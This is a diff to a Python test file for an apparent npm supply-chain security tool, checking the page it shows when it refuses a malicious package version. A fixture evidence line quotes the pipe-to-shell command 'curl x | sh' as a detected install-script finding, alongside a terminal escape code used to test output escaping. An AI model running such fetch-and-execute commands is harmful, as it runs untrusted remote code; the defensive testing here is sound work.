@@ -4,7 +4,7 @@ import json
 from dataclasses import replace
 from datetime import UTC, datetime
 
-from assay.model.handout import Handout, HandoutKind, HandoutOutcome, Recall
+from assay.model.handout import Handout, HandoutKind, HandoutOutcome, Recall, told_with
 from assay.model.integrity import Integrity
 from assay.model.policy import Action, Reason
 from assay.model.verdict import Level
@@ -26,7 +26,7 @@ HANDOUT = Handout(
     client="npm/11.6.2 node/v20.1.0 linux x64",
     project="shop",
     refusal="0a1b2c3d4e",
-    evidence=("install-script-fetches: it fetches \x1b[31mcode",),
+    evidence=(told_with("install-script-fetches: it fetches \x1b[31mcode", "a.js:1: curl x | sh"),),
 )
 RECALL = Recall("@acme/tool", "1.2.3", "MAL-2026-1", "it steals", NOW)
 
@@ -47,7 +47,7 @@ def test_the_table_tells_the_line_of_each_and_what_was_recalled() -> None:
 def test_the_page_explains_a_refusal_and_the_way_to_an_exception() -> None:
     page = handout_page(HANDOUT, [RECALL])
     assert "[block.verdicts] the verdict is malicious" in page
-    assert "it fetches \\x1b[31mcode" in page
+    assert "  found      install-script-fetches: it fetches \\x1b[31mcode\n             a.js:1: curl x | sh\n" in page
     assert "assay explain install-script-fetches" in page
     assert "MAL-2026-1: it steals" in page
     assert "assay allow '@acme/tool@1.2.3' --reason" in page
@@ -63,6 +63,7 @@ def test_the_page_of_a_packument_tells_why_the_version_is_withheld() -> None:
     told = replace(HANDOUT, kind=HandoutKind.PACKUMENT, outcome=HandoutOutcome.REWRITTEN, hidden=2, version="")
     told = replace(told, evidence=lines)
     page = handout_page(told, [], "1.2.2")
+    assert page.startswith("@acme/tool@1.2.2: withheld from the packument\n")
     assert "withheld   2 versions" in page
     assert "it is malware" in page
     assert "it is young" not in page
